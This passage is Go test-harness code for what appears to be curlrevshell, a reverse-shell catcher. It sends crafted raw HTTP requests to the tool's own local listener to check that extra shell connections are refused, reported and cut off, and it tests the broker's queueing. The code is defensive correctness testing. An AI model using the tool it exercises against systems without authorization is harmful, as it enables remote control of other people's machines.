		"files/.hidden":      "hidden\n",
		"files/index.html":   "<html>c01</html>\n",
		" edge / lead.txt":   "lead\n",
		"ctrlid/perl.pl":     "print 1;\n",
		"files/large.bin":    strings.Repeat("0123456789abcdef", 4096),
		"files/dir/deep.txt": "deep\n",
	}
	for n, c := range files {
		p := filepath.Join(d, n)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, []byte(c), 0o644); err != nil {
			return err
		}
	}
	if err := os.Symlink("files", filepath.Join(d, "link")); err != nil {
		return err
	}
	return os.Symlink("tmpl", filepath.Join(d, "tmpl.lnk"))
}

// cfgCase is one session: one or two options.
type cfgCase struct{ opts []int }

// cfgCases: every option alone, a few pairs that are always there, and pairs
// drawn by index with a seed-dependent offset.
func cfgCases(r *mon.Run) []cfgCase {
	n := len(cfgOpts)
	idx := func(name string) int {
		for i, o := range cfgOpts {
			if o.name == name {
				return i
			}
		}
		panic(name)
	}
	var cs []cfgCase
	for i := 0; i < n; i++ {
		cs = append(cs, cfgCase{[]int{i}})
	}
	for _, p := range [][2]string{{"one-shell", "serve-dir"}, {"serve-file", "one-shell=true"}, {"serve-dir", "log-flag"}, {"one-shell", "no-timestamps"}, {"one-shell", "ctrl-i-file"}, {"tmpl-file", "serve-file"}} {
		cs = append(cs, cfgCase{[]int{idx(p[0]), idx(p[1])}})
	}
	// quick: every other option gets a partner at a seed-dependent distance (so that every option
	// is in at least one drawn pair or is the partner in one only by chance - the floors ask for the
	// option alone plus one more session); thorough: four rounds over all options
	rounds, stride := r.N(1, 4), r.N(2, 1)
	rng := r.Rng("cfg-pairs", 0)
	for k := 0; k < rounds; k++ {
		off := 1 + rng.IntN(n-1)
		start := rng.IntN(stride)
		for a := start; a < n; a += stride {
			cs = append(cs, cfgCase{[]int{a, (a + off) % n}})
		}
	}
	return cs
}

// rawAtt is one connection attempt written by hand on a raw TLS connection.
type rawAtt struct {
	name  string
	c     *hk.Conn
	local string
	req   string
	tok   string // token in the part of the request body that is sent
	note  string // what the refusal notice on the terminal looks like (the notices name the peer's IP address only)
	pre   bool   // connection opened before the shell attached

	mu     sync.Mutex
	got    []byte // everything received
	status int    // response status, 0 = none
	ended  bool
	endErr string
	done   chan struct{}
}

func (a *rawAtt) speak() error {
	a.c.SetWriteDeadline(time.Now().Add(hk.Bound))
	_, err := io.WriteString(a.c, a.req)
	return err
}

// watch reads the response and whatever follows until the attempt ends (the
// response is complete, or the connection is closed) or bound passes.
func (a *rawAtt) watch(bound time.Duration) {
	a.done = make(chan struct{})
	go func() {
		defer close(a.done)
		a.c.SetReadDeadline(time.Now().Add(bound))
		method := a.req[:strings.IndexByte(a.req, ' ')]
		resp, err := http.ReadResponse(a.c.R, &http.Request{Method: method})
		if err != nil {
			a.mu.Lock()
			a.ended = !isTimeout(err)
			a.endErr = err.Error()
			a.mu.Unlock()
			return
		}
		a.mu.Lock()
		a.status = resp.StatusCode
		a.mu.Unlock()
		buf := make([]byte, 4096)
		for {
			n, err := resp.Body.Read(buf)
			a.mu.Lock()
			a.got = append(a.got, buf[:n]...)
			if err != nil {
				a.ended = !isTimeout(err)
				a.endErr = err.Error()
				a.mu.Unlock()
				return
			}
			a.mu.Unlock()
		}
	}()
}

func (a *rawAtt) received() string { a.mu.Lock(); defer a.mu.Unlock(); return string(a.got) }
func (a *rawAtt) isDone() bool {
	select {
	case <-a.done:
		return true
	default:
		return false
	}
}

func isTimeout(err error) bool {
	var ne net.Error
	return errors.Is(err, os.ErrDeadlineExceeded) || (errors.As(err, &ne) && ne.Timeout())
}

// refusedRequests are the attempts that must be refused while a shell with
// the ID "one" is attached in both directions (sess makes tokens unique).  All
// but one bring a request body that has not ended: chunked with nothing, one
// chunk or several chunks sent, or a declared length of which only the
// beginning has arrived; none sends Expect.
func refusedRequests(sess string) []*rawAtt {
	tok := func(v string) string { return "REFUSED-OUT-" + sess + "-" + v + ";" }
	chunk := func(s string) string { return fmt.Sprintf("%x\r\n%s\r\n", len(s), s) }
	h := "Host: fake.shell\r\n"
	const rej = `Rejected[^\r\n]*`
	same := func(dir string) string { return rej + dir + `[^\r\n]*ID "one"` }
	other := func(id string) string { return rej + `"` + id + `"` }
	bidir := rej + `bidirec`
	return []*rawAtt{
		{name: "o-other-id-chunked-one-chunk", note: other("two-a"), tok: tok("a"), req: "POST /o/two-a HTTP/1.1\r\n" + h + "Transfer-Encoding: chunked\r\n\r\n" + chunk(tok("a"))},
		{name: "o-same-id-declared-length", note: same("output"), tok: tok("b"), req: "POST /o/one HTTP/1.1\r\n" + h + "Content-Length: 5000\r\n\r\n" + tok("b")},
		{name: "io-chunked-one-chunk", note: bidir, tok: tok("c"), req: "POST /io HTTP/1.1\r\n" + h + "Transfer-Encoding: chunked\r\n\r\n" + chunk(tok("c"))},
		{name: "i-other-id-chunked-body", note: other("two-d"), req: "GET /i/two-d HTTP/1.1\r\n" + h + "Transfer-Encoding: chunked\r\n\r\n" + chunk("hello")},
		{name: "i-same-id-no-body", note: same("input"), req: "GET /i/one HTTP/1.1\r\n" + h + "\r\n"},
		{name: "o-case-variant-id-chunked-nothing-sent", note: other("One"), req: "PUT /o/One HTTP/1.1\r\n" + h + "Transfer-Encoding: chunked\r\n\r\n"},
		{name: "io-declared-length", note: bidir, tok: tok("g"), req: "POST /io HTTP/1.1\r\n" + h + "Content-Length: 70000\r\n\r\n" + tok("g")},
		{name: "o-same-id-chunked-three-chunks", note: same("output"), tok: tok("h"), req: "POST /o/one HTTP/1.1\r\n" + h + "Transfer-Encoding: chunked\r\n\r\n" + chunk("x") + chunk(tok("h")) + chunk("y\n")},
	}
}

var readyRe = regexp.MustCompile(`Shell is ready`)

// cfgMatrix: the real binary under its other documented options, each alone
// and in pairs.  In every session a shell "one" attaches, attempts that must
// be refused are made (on fresh connections and on connections that were
// opened before the shell attached; with -one-shell only the latter exist),
// the shell ends, the program is brought to its shutdown (with -one-shell the
// end of the shell is that; otherwise Ctrl+D), and connections opened before
// the shell attached make their first attempt only then.
func cfgMatrix(r *mon.Run) {
	bin, err := crs.Build(r.Work, "")
	if err != nil {
		r.Inconclusive("cannot build the binary: " + err.Error())
		return
	}
	cases := cfgCases(r)
	mon.Parallel(len(cases), 8, func(ci int) {
		if !r.Want("cfg", ci) {
			return
		}
		cfgSession(r, bin, ci, cases[ci])
	})
	r.Logf("cfg done: %d sessions", len(cases))
	if r.Replaying() {
		return
	}
	for _, o := range cfgOpts {
		r.Floor("cfg_option:"+o.name, 1)
	}
	for _, a := range refusedRequests("") {
		r.Floor("cfg_refused:"+a.name, 8)
	}
	r.Floor("cfg_sessions", int64(len(cases)*9/10))
	r.Floor("cfg_pairs", int64((len(cases)-len(cfgOpts))*9/10))
	r.Floor("cfg_sessions_one_shell", 5)
	r.Floor("cfg_sessions_serving_files", 6)
	r.Floor("cfg_refused_with_unfinished_body_ended", int64(len(cases)*3))
	r.Floor("cfg_refused_on_connection_older_than_shell", int64(len(cases)))
	r.Floor("cfg_one_shell_refused_during_shell", 15)
	r.Floor("cfg_shutdown_attempts", int64(len(cases)))
	r.Floor("cfg_one_shell_attempts_after_shell_gone", 6)
}

func cfgSession(r *mon.Run, bin string, ci int, cs cfgCase) {
	d := filepath.Join(r.Work, fmt.Sprintf("cfg-%d", ci))
	if err := cfgFixtures(d); err != nil {
		r.Inconclusive("fixtures: " + err.Error())
		return
	}
	args := []string{"-listen-address", "127.0.0.1:0"}
	var env []string
	var names []string
	one, serving := false, false
	for _, oi := range cs.opts {
		o := cfgOpts[oi]
		args = append(args, o.args(d)...)
		if o.env != nil {
			env = append(env, o.env(d)...)
		}
		names = append(names, o.name)
		one = one || o.one
		serving = serving || (strings.HasPrefix(o.name, "serve-") && o.name != "serve-empty")
	}
	cfgName := strings.Join(names, "+")
	s, err := crs.StartEnv(bin, filepath.Join(d, "home"), env, args...)
	if err != nil {
		r.Inconclusive("binary did not start with " + cfgName + ": " + err.Error())
		return
	}
	defer s.Close()
	sess := fmt.Sprint(ci)
	viol := func(key, what string, a *rawAtt) {
		c := s.P.Clean()
		if len(c) > 3000 {
			c = c[len(c)-3000:]
		}
		w := map[string]any{"options": names, "args": args, "env": env, "terminal_tail": c}
		if a != nil {
			a.mu.Lock()
			w["attempt"] = a.name
			w["request"] = a.req
			w["connection_older_than_shell"] = a.pre
			w["status"] = a.status
			w["end"] = a.endErr
			a.mu.Unlock()
		}
		r.Violate("cfg", ci, key, what+" [options: "+cfgName+"]", w)
	}
	dial := func() *hk.Conn {
		c, err := hk.Dial(s.Addr, "")
		if err != nil {
			return nil
		}
		return c
	}

	// connections opened before the shell attaches; they say nothing yet
	// five of the eight kinds of refused attempt per session, rotating with the session index
	var reqs []*rawAtt
	for i, a := range refusedRequests(sess) {
		if (i+ci)%8 < 5 {
			reqs = append(reqs, a)
		}
	}
	var closers []io.Closer
	defer func() {
		for _, c := range closers {
			c.Close()
		}
	}()
	canary := dial()
	shutIn, shutOut := dial(), dial()
	if canary == nil || shutIn == nil || shutOut == nil {
		r.Inconclusive("cannot connect to the program")
		return
	}
	closers = append(closers, canary, shutIn, shutOut)
	for i, a := range reqs {
		// with -one-shell nobody can connect once the shell is there; otherwise every other attempt
		// (which ones: by session index) comes on a fresh connection
		if one || (i+ci)%2 == 0 {
			a.pre = true
			if a.c = dial(); a.c == nil {
				r.Inconclusive("cannot connect to the program")
				return
			}
			closers = append(closers, a.c)
		}
	}

	// the shell
	in, err := crs.OpenIn(s.Addr, "/i/one")
	if err != nil {
		r.Inconclusive(err.Error())
		return
	}
	defer in.Close()
	out, err := crs.OpenOut(s.Addr, "/o/one")
	if err != nil {
		r.Inconclusive(err.Error())
		return
	}
	defer out.Close()
	ready, ok := s.Wait(`Shell is ready`, 0, crs.Bound)
	if !ok {
		viol("cfg-shell-does-not-attach", "no ready notice for /i/one + /o/one", nil)
		return
	}
	if one {
		if _, ok := s.Wait(`Closing listener`, 0, crs.Bound); !ok {
			r.Inconclusive("-one-shell given but the listener was not closed: " + cfgName)
			return
		}
	}

	// attempts that must be refused, all made before any is waited for
	for _, a := range reqs {
		if a.c == nil {
			if a.c = dial(); a.c == nil {
				r.Inconclusive("cannot connect to the program while a shell is attached (no -one-shell)")
				return
			}
			closers = append(closers, a.c)
		}
		a.local = a.c.LocalAddr().String()
		a.speak()
		a.watch(hk.Bound)
	}
	for _, a := range reqs {
		<-a.done
	}
	for _, a := range reqs {
		a.mu.Lock()
		ended, status := a.ended, a.status
		a.mu.Unlock()
		if !ended {
			viol("refused-attempt-not-ended", fmt.Sprintf("attempt %s made while a shell with both streams was attached was neither answered completely nor disconnected within %s", a.name, hk.Bound), a)
			continue
		}
		// the operator is told (the notices name the IP address only: attempts are told apart by their
		// IDs; those that look alike must ALL have been answered before the count is required).  A
		// connection opened before a -one-shell shell may have been closed by the server before it
		// said anything (then there was no attempt)
		if status == 0 && one {
			r.Count("cfg_connection_closed_before_it_spoke", 1)
			continue
		}
		need := 0
		for _, b := range reqs {
			if b != a {
				b.mu.Lock()
			}
			if b.note == a.note && (b.status != 0 || !one) {
				need++
			}
			if b != a {
				b.mu.Unlock()
			}
		}
		if _, ok := s.Wait(`(?s)`+strings.Repeat(a.note+`.*?`, need), ready[1], hk.Bound); !ok {
			viol("refusal-not-reported", fmt.Sprintf("the terminal does not show %d refusal notice(s) like %s for attempt %s (and the %d other(s) like it)", need, a.note, a.name, need-1), a)
			continue
		}
		if strings.Contains(a.req, "Transfer-Encoding") || strings.Contains(a.req, "Content-Length") {
			r.Count("cfg_refused_with_unfinished_body_ended", 1)
		}
		r.Count("cfg_refused:"+a.name, 1)
		if a.pre {
			r.Count("cfg_refused_on_connection_older_than_shell", 1)
		}
		if one {
			r.Count("cfg_one_shell_refused_during_shell", 1)
		}
	}

	// operator input goes to the shell and to nobody else
	probe := "probe-" + sess
	s.Line(probe)
	if l, err := in.ReadLine(hk.Bound); err != nil || l != probe {
		viol("live-input-not-fed", fmt.Sprintf("probe line did not reach the attached input: %q %v", l, err), nil)
	}
	out.Send("LIVE-OUT-" + sess + "\n")
	if _, ok := s.Wait("LIVE-OUT-"+sess, 0, hk.Bound); !ok {
		viol("live-output-not-shown", "output of the attached shell was not displayed", nil)
	}
	for _, a := range reqs {
		if strings.Contains(a.received(), probe) {
			viol("refused-input-got-bytes", "refused attempt "+a.name+" was sent operator input", a)
		}
	}

	// the shell ends
	out.End()
	in.Close()
	gone, ok := s.Wait(`Shell is gone`, 0, crs.Bound)
	if !ok {
		r.Inconclusive("no 'Shell is gone' after both streams ended")
		return
	}
	if !one {
		// the program's shutdown is asked for by the operator; it has begun for certain once main says goodbye
		s.Ctrl('D')
		if _, ok := s.Wait(`Goodbye`, gone[1], crs.Bound); !ok {
			r.Inconclusive("no Goodbye after Ctrl+D at the prompt: " + cfgName)
			return
		}
	}
	// the program is shutting down from here on.  Give it a moment to get on with it: until it has
	// closed an idle connection, 1 s at most
	canary.SetReadDeadline(time.Now().Add(time.Second))
	if _, err := canary.Read(make([]byte, 1)); err != nil && !isTimeout(err) {
		r.Count("cfg_idle_connection_closed_at_shutdown", 1)
	}
	shutTok := "SHUTDOWN-OUT-" + sess + ";"
	var late []*rawAtt
	if ci%3 == 2 {
		late = []*rawAtt{{name: "io-after-shutdown-began", c: shutOut, tok: shutTok, req: "POST /io HTTP/1.1\r\nHost: fake.shell\r\nTransfer-Encoding: chunked\r\n\r\n" + fmt.Sprintf("%x\r\n%s\r\n", len(shutTok)+1, shutTok+"\n")}}
	} else {
		late = []*rawAtt{
			{name: "i-after-shutdown-began", c: shutIn, req: "GET /i/two HTTP/1.1\r\nHost: fake.shell\r\n\r\n"},
			{name: "o-after-shutdown-began", c: shutOut, tok: shutTok, req: "POST /o/two HTTP/1.1\r\nHost: fake.shell\r\nTransfer-Encoding: chunked\r\n\r\n" + fmt.Sprintf("%x\r\n%s\r\n", len(shutTok)+1, shutTok+"\n")},
		}
	}
	for _, a := range late {
		a.pre = true
		a.local = a.c.LocalAddr().String()
		a.speak()
		a.watch(hk.Bound)
		r.Count("cfg_shutdown_attempts", 1)
		if one {
			r.Count("cfg_one_shell_attempts_after_shell_gone", 1)
		}
	}
	// were they taken for a new shell?  Then the operator types something
	allDone := func() bool {
		for _, a := range late {
			if !a.isDone() {
				return false
			}
		}
		return true
	}
	lateProbe := "late-probe-" + sess
	for i := 0; i < 30 && !allDone(); i++ {
		if _, ok := s.P.WaitFor(readyRe, gone[1], 100*time.Millisecond); ok {
			s.Line(lateProbe)
			for j := 0; j < 50 && !allDone() && !strings.Contains(late[0].received(), lateProbe); j++ {
				time.Sleep(100 * time.Millisecond)
			}
			break
		}
	}
	for _, a := range late {
		<-a.done
		a.mu.Lock()
		ended := a.ended
		a.mu.Unlock()
		if one {
			// After the one shell of -one-shell has gone the HTTP server winds down, but the
			// broker has not been told to shut down yet (main's context is cancelled only when
			// the server has finished): in the broker's terms - and the statement's - this is an
			// idle broker, and what it does with an attempt that slips in before the server has
			// closed the connection is not C01's business (C12 counts it too, and judges only the
			// exit).  Counted, never judged.
			if strings.Contains(a.received(), lateProbe) || !ended {
				r.Count("cfg_one_shell_aftermath_attempts_served_or_left_open", 1)
			}
			continue
		}
		if strings.Contains(a.received(), lateProbe) {
			viol("shutdown-attempt-got-input", "attempt "+a.name+", made on a connection older than the shell after the program's shutdown had begun ("+map[bool]string{true: "the one shell of -one-shell was gone", false: "Ctrl+D"}[one]+"), was sent operator input", a)
		}
		if !ended {
			viol("shutdown-attempt-not-ended", fmt.Sprintf("attempt %s made after the program's shutdown had begun was neither answered nor disconnected within %s", a.name, hk.Bound), a)
		}
	}
	term := s.P.Clean()
	if strings.Contains(term, shutTok) && one {
		r.Count("cfg_one_shell_aftermath_output_displayed", 1)
	} else if strings.Contains(term, shutTok) {
		viol("shutdown-attempt-output-displayed", "output of an attempt made after the program's shutdown had begun ("+map[bool]string{true: "the one shell of -one-shell was gone", false: "Ctrl+D"}[one]+") was displayed", late[len(late)-1])
	}
	for _, a := range reqs {
		if a.tok != "" && strings.Contains(term, a.tok) {
			viol("refused-output-displayed", "output of refused attempt "+a.name+" was displayed", a)
		}
	}

	r.Eval(1)
	r.Distinct("cfg|" + cfgName)
	r.Count("cfg_sessions", 1)
	if len(cs.opts) > 1 {
		r.Count("cfg_pairs", 1)
	}
	for _, n := range names {
		r.Count("cfg_option:"+n, 1)
	}
	if one {
		r.Count("cfg_sessions_one_shell", 1)
	}
	if serving {
		r.Count("cfg_sessions_serving_files", 1)
	}
	if ci < 2 {
		r.Sample("cfg", map[string]any{"options": names, "args": args})
	}
}

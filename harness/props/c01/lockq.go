package c01

import (
	"fmt"
	"io"
	"runtime"
	"strings"
	"sync/atomic"
	"time"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/bk"
)

// msgCanceled is the record of a stream that was not attached because its
// request had already been given up.
const msgCanceled = "Connection canceled before it was established"

// lockq: attempts that are decided while others are already QUEUED for the
// broker.
//
// In gate mode every attempt is decided while nobody else is on its way into
// the broker.  A real broker is busy for as long as the operator's terminal
// does not take the notice it is sending, and whoever arrives meanwhile waits
// in line; the state they will be judged in is the one the broker has when
// their turn comes, and it is made by those in front of them.  Here one stream
// (the "holder": one half of an /io request that is being refused, or a
// stranger without an ID) is kept inside the broker by a stalled terminal
// behind an exactly full operator channel, and behind it queue up, in an
// order the case chooses: the last stream(s) of the previous shell on the way
// into their release section (so that the tear-down completes when their turn
// comes), and the still undecided half/halves of the /io request.  Then the
// terminal reads again and the queue runs off.
//
// Verdicts (all from the one event log; none depends on who won a race):
//   - one /io request is ONE attempt: once a half of it has been refused, the
//     other half must not be attached afterwards (records under the broker's
//     lock are totally ordered in the log: a "New connection" of one half
//     after a refusal record of the other);
//   - a request whose first decision was a refusal is never sent operator
//     input (a line is pending all the time) and none of its output is shown;
//   - its ConnectInOut returns;
//   - the operator is told (red notice naming its address) when it was
//     refused for the state the broker was in;
//   - the half decided first with the holder technique is decided in a known
//     state (everything else is parked) in which the property demands refusal.
//
// That the parties really were in line is established from the log: a notice
// displayed as the (capacity+2)th or later line after the stall began had not
// been handed over when the terminal resumed, so the holder was inside from
// the record it wrote before that notice until after the "resume" note; the
// others passed their hook point (after which the next thing they do is ask
// for the broker's lock) before the note and finished after it.
func lockq(r *mon.Run) {
	type lc struct {
		pre     string // tear-io tear-uni half-uni full-uni full-io: what is left of the previous shell
		lastDir string // tear/half: the direction that is still to be released
		endHow  string // how the previous shell was ended
		first   string // the half of the /io request that is decided first
		holder  string // sibling: that half is the holder; stranger: an ID-less attempt is, and both halves queue
		sdir    string // stranger's direction
		order   string // release-first: the tear-down completes in front of the second half; second-first: behind it
		och     int
		wk      bk.WriterKind
		settle  [4]time.Duration
	}
	n := r.N(120, 1500)
	var nProven, nCleanOrder, nWhole atomic.Int64
	mon.Parallel(n, runtime.NumCPU(), func(i int) {
		if !r.Want("lockq", i) {
			return
		}
		rng := r.Rng("lockq", i)
		c := lc{
			pre:     []string{"tear-io", "tear-uni", "half-uni", "full-uni", "full-io"}[i%5],
			lastDir: []string{"input", "output"}[(i/5)%2],
			first:   []string{"output", "input"}[(i/10)%2],
			holder:  []string{"sibling", "sibling", "stranger"}[(i/20)%3],
			order:   []string{"release-first", "release-first", "release-first", "second-first"}[rng.IntN(4)],
			sdir:    []string{"in", "out"}[rng.IntN(2)],
			och:     []int{0, 1, 2, 5}[rng.IntN(4)],
			wk:      bk.WriterKind(rng.IntN(4)),
		}
		for k := range c.settle {
			c.settle[k] = time.Duration(3+rng.IntN(20)) * time.Millisecond
		}
		second := map[string]string{"input": "output", "output": "input"}[c.first]
		otherDir := map[string]string{"input": "output", "output": "input"}[c.lastDir]
		kindOf := map[string]string{"input": "in", "output": "out"}
		switch c.lastDir {
		case "input":
			c.endHow = []string{"cancel", "eof", "err"}[rng.IntN(3)] // of the output side (tear) …
		default:
			c.endHow = []string{"cancel", "werr"}[rng.IntN(2)] // … or of the input side
		}
		if c.pre == "half-uni" || c.pre == "full-uni" || c.pre == "full-io" {
			c.endHow = "cancel"
		}

		w, err := bk.NewWorld(c.och, 64)
		if err != nil {
			r.Inconclusive(err.Error())
			return
		}
		closed := false
		closeWorld := func() []*bk.Attempt {
			if closed {
				return nil
			}
			closed = true
			return w.Close()
		}
		defer closeWorld()
		viol := func(key, what string) {
			r.Violate("lockq", i, key, what, map[string]any{"case": fmt.Sprintf("%+v", c), "log_tail": w.Log.Tail(70)})
		}
		inconc := func(what string) {
			r.Inconclusive(fmt.Sprintf("lockq %d (%+v): %s; log tail: %v", i, c, what, w.Log.Tail(14)))
		}
		waitEv := func(from int, pred func(bk.Event) bool) (bk.Event, bool) { return w.Log.Wait(from, bk.Bound, pred) }
		hookEv := func(kind string, a *bk.Attempt, point, dir string) func(bk.Event) bool {
			return func(e bk.Event) bool { return e.Kind == kind && e.Att == a.ID && e.S == point && e.Dir == dir }
		}
		isNew := func(a *bk.Attempt, dir string) func(bk.Event) bool {
			return func(e bk.Event) bool { return e.Kind == "slog" && e.Att == a.ID && e.S == bk.MsgNew && e.Dir == dir }
		}
		isRefusal := func(a *bk.Attempt, dir string) func(bk.Event) bool {
			return func(e bk.Event) bool {
				if e.Kind != "slog" || e.Att != a.ID || e.Dir != dir {
					return false
				}
				switch e.S {
				case bk.MsgDisconnecting, bk.MsgAlready, bk.MsgIncorrectKey, bk.MsgKeyMissing, msgCanceled:
					return true
				}
				return false
			}
		}
		opLine := func(a *bk.Attempt, text string) func(bk.Event) bool {
			return func(e bk.Event) bool {
				return e.Kind == "op" && !e.Plain && strings.HasPrefix(e.S, "["+a.Addr+"] ") && strings.Contains(e.S, text)
			}
		}
		flushTerminal := func(tag string) bool {
			mark := fmt.Sprintf("LQ-%s-%d", tag, i)
			select {
			case w.Och <- opshell.CLine{Line: mark}:
			case <-time.After(bk.Bound):
				return false
			}
			_, ok := waitEv(0, func(e bk.Event) bool { return e.Kind == "op" && e.S == mark })
			return ok
		}

		// ---- the previous shell, ended, with its last stream(s) parked in front of the release section ----
		type sd struct {
			a   *bk.Attempt
			dir string
		}
		var lasts []sd // parked before their release section, in the order they will be let go
		var prev []*bk.Attempt
		startPrev := func(kind, key string, gate ...string) *bk.Attempt {
			a := w.NewAttempt(kind, key, c.wk)
			for _, d := range gate {
				a.Gate("release", d)
			}
			a.Start()
			prev = append(prev, a)
			return a
		}
		attachedAll := func(a *bk.Attempt) bool {
			for _, d := range a.Dirs() {
				if _, ok := waitEv(0, isNew(a, d)); !ok {
					inconc("a stream of the previous shell was not attached")
					return false
				}
			}
			return true
		}
		endStream := func(a *bk.Attempt, dir, how string) {
			switch {
			case how == "eof" && dir == "output":
				a.Rd.Push(bk.ReadItem{Err: io.EOF})
			case how == "err" && dir == "output":
				a.Rd.Push(bk.ReadItem{Err: bk.ErrInjected})
			case how == "werr" && dir == "input":
				a.Wr.FailWrite(0, false)
				w.Ich <- fmt.Sprintf("LQ-LOST-%d", i)
			default:
				a.Cancel()
			}
		}
		key := fmt.Sprintf("k%d", i%7)
		switch c.pre {
		case "tear-io", "full-io":
			gates := []string{c.lastDir}
			if c.pre == "full-io" {
				gates = []string{c.lastDir, otherDir}
			}
			p := startPrev("io", "", gates...)
			if !attachedAll(p) {
				return
			}
			if _, ok := waitEv(0, opLine(p, iobroker.ShellReadyMessage)); !ok {
				inconc("the previous shell was not announced as ready")
				return
			}
			if c.pre == "tear-io" {
				endStream(p, otherDir, c.endHow)
				if _, ok := waitEv(0, hookEv("hook", p, "done", otherDir)); !ok {
					viol("stream-does-not-end", fmt.Sprintf("the %s side of the previous /io shell did not end (%s)", otherDir, c.endHow))
					return
				}
				lasts = []sd{{p, c.lastDir}}
			} else {
				p.Cancel()
				lasts = []sd{{p, c.lastDir}, {p, otherDir}}
			}
		case "tear-uni", "full-uni":
			pl := startPrev(kindOf[c.lastDir], key, c.lastDir)
			if !attachedAll(pl) {
				return
			}
			var po *bk.Attempt
			if c.pre == "full-uni" {
				po = startPrev(kindOf[otherDir], key, otherDir)
			} else {
				po = startPrev(kindOf[otherDir], key)
			}
			if !attachedAll(po) {
				return
			}
			if _, ok := waitEv(0, opLine(po, iobroker.ShellReadyMessage)); !ok {
				inconc("the previous shell was not announced as ready")
				return
			}
			if c.pre == "tear-uni" {
				endStream(po, otherDir, c.endHow)
				if _, ok := waitEv(0, hookEv("hook", po, "done", otherDir)); !ok {
					viol("stream-does-not-end", fmt.Sprintf("the %s stream of the previous shell did not end (%s)", otherDir, c.endHow))
					return
				}
				lasts = []sd{{pl, c.lastDir}}
			} else {
				pl.Cancel()
				po.Cancel()
				lasts = []sd{{pl, c.lastDir}, {po, otherDir}}
			}
		case "half-uni":
			pl := startPrev(kindOf[c.lastDir], key, c.lastDir)
			if !attachedAll(pl) {
				return
			}
			if _, ok := waitEv(0, opLine(pl, "connected: ID")); !ok {
				inconc("the previous half shell was not announced")
				return
			}
			pl.Cancel()
			lasts = []sd{{pl, c.lastDir}}
		}
		for _, l := range lasts {
			// (the broker ends the peer of a released stream by itself)
			if _, ok := waitEv(0, hookEv("parked", l.a, "release", l.dir)); !ok {
				viol("stream-does-not-end", fmt.Sprintf("the %s stream of the previous shell did not reach its tear-down without further traffic", l.dir))
				return
			}
		}
		// nobody reads operator input now; a line is pending from here on
		line := fmt.Sprintf("LQ-OPERATOR-LINE-%d", i)
		select {
		case w.Ich <- line:
		default:
			inconc("operator input channel full")
			return
		}
		if !flushTerminal("MARK") {
			inconc("marker line not seen on the operator channel")
			return
		}

		// ---- the terminal stalls behind a channel that is exactly full ----
		resume := w.StallOperator()
		defer resume()
		stallSeq := w.Log.Add(bk.Event{Kind: "note", Att: -1, S: "stall"})
		for k := 0; k < c.och+1; k++ {
			select {
			case w.Och <- opshell.CLine{Line: fmt.Sprintf("LQ-FILL-%d-%d", i, k)}:
			case <-time.After(bk.Bound):
				inconc("filler line not accepted by the operator channel")
				return
			}
		}

		// ---- the /io request: both halves parked at the admission point ----
		A := w.NewAttempt("io", "", c.wk)
		A.Gate("admit", "input")
		A.Gate("admit", "output")
		tok := fmt.Sprintf("LQ-OUTPUT<%d>;", i)
		A.Rd.PushData(tok)
		A.Start()
		for _, d := range A.Dirs() {
			if _, ok := waitEv(stallSeq, hookEv("parked", A, "admit", d)); !ok {
				inconc("a half of the /io request did not reach the admission point")
				return
			}
		}
		// what the property says about a half decided now, with everything else parked
		why := map[string]string{"tear-io": "tearing-down", "tear-uni": "tearing-down", "full-uni": "duplicate-direction", "full-io": "duplicate-direction"}[c.pre]
		if c.pre == "half-uni" {
			why = "bidirectional-onto-unidirectional"
			if c.first == c.lastDir {
				why = "duplicate-direction"
			}
		}

		// ---- the holder goes in and gets stuck on its notice ----
		var holder *bk.Attempt
		var insideEv bk.Event
		notice := "Rejected"
		goIn := func(a *bk.Attempt, dir string) bool {
			a.Open("admit", dir)
			if _, ok := waitEv(stallSeq, hookEv("passed", a, "admit", dir)); !ok {
				inconc("a half of the /io request did not leave the admission point")
				return false
			}
			return true
		}
		if c.holder == "sibling" {
			holder = A
			if !goIn(A, c.first) {
				return
			}
			ev, ok := waitEv(stallSeq, func(e bk.Event) bool {
				return isNew(A, c.first)(e) || isRefusal(A, c.first)(e) || hookEv("hook", A, "done", c.first)(e)
			})
			switch {
			case !ok:
				inconc("the first half of the /io request was not decided")
				return
			case ev.S == bk.MsgNew:
				viol("admitted-"+why, fmt.Sprintf("the %s half of an /io request was attached although the property demands refusal (%s): previous shell %s, nothing else in progress", c.first, why, c.pre))
				return
			case ev.Kind == "hook" || ev.S == msgCanceled:
				viol("silent-refusal-while-up", fmt.Sprintf("the %s half of an /io request made in state %s returned without telling why (%q)", c.first, c.pre, ev.S))
				return
			}
			insideEv = ev
		} else {
			holder = w.NewAttempt(c.sdir, "", c.wk)
			notice = "Missing Key"
			holder.Start()
			ev, ok := waitEv(stallSeq, func(e bk.Event) bool {
				return e.Kind == "slog" && e.Att == holder.ID && (e.S == bk.MsgKeyMissing || e.S == bk.MsgNew)
			})
			if !ok {
				inconc("the ID-less attempt was not decided")
				return
			}
			if ev.S == bk.MsgNew {
				viol("admitted-missing-id", "an attempt without an ID was attached")
				return
			}
			insideEv = ev
			time.Sleep(c.settle[0])
			if !goIn(A, c.first) { // queues behind the stranger
				return
			}
		}
		time.Sleep(c.settle[1])

		// ---- the queue behind the holder ----
		letGo := func() bool {
			for _, l := range lasts {
				l.a.Open("release", l.dir)
				if _, ok := waitEv(stallSeq, hookEv("passed", l.a, "release", l.dir)); !ok {
					inconc("a stream of the previous shell did not go for its release section")
					return false
				}
				time.Sleep(c.settle[2])
			}
			return true
		}
		if c.order == "release-first" {
			if !letGo() || !goIn(A, second) {
				return
			}
		} else {
			if !goIn(A, second) {
				return
			}
			time.Sleep(c.settle[2])
			if !letGo() {
				return
			}
		}
		time.Sleep(c.settle[3])
		// nothing may have been decided for the second half yet on a broker that is busy
		resumeSeq := w.Log.Add(bk.Event{Kind: "note", Att: -1, S: "resume"})
		resume()

		// ---- the queue runs off ----
		decision := func(a *bk.Attempt, dir string) (bk.Event, bool) {
			return waitEv(stallSeq, func(e bk.Event) bool {
				return isNew(a, dir)(e) || isRefusal(a, dir)(e) || hookEv("hook", a, "done", dir)(e)
			})
		}
		dec := map[string]bk.Event{}
		for _, d := range A.Dirs() {
			ev, ok := decision(A, d)
			if !ok {
				viol("refused-attempt-not-ended", fmt.Sprintf("after the terminal resumed, the %s half of the /io request was neither attached nor did it return", d))
				return
			}
			dec[d] = ev
		}
		for _, l := range lasts {
